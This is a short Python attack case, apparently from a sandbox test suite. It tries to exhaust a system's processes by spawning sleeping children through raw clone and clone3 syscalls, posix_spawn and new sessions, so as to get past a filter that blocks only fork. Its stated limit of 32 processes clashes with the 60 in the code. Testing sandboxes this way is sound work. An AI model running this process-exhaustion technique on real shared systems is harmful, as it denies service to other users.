# attack: Makes processes with the calls under fork: vfork, clone, clone3, posix_spawn, also in groups and sessions of their own.
# hurts: Leaves no process for anybody else, past a filter that knows only one call.
# at most: 32 processes
# ends: returns or error or crash
import ctypes
import os
import time

from _raw import call, took

SIGCHLD = 17
MOST = 60


def attack(target):
    made, tried = 0, []
    for way in (by_clone, by_clone3, by_spawn, by_session):
        while made < MOST:
            try:
                way()
            except OSError as error:
                tried.append(f"{way.__name__}: {error}")
                break
            made += 1
    return [took(made), *tried]


def by_clone():
    stay(*call("clone", SIGCHLD, 0, 0, 0, 0))


def by_clone3():
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0)
    stay(*call("clone3", ctypes.byref(arguments), ctypes.sizeof(arguments)))


def stay(pid, error):
    if error:
        raise OSError(error)
    if pid == 0:
        time.sleep(20)
        os._exit(0)


def by_spawn():
    os.posix_spawn("/bin/sleep", ["sleep", "20"], {})


def by_session():
    if os.fork() == 0:
        os.setsid()
        stay(0, "")
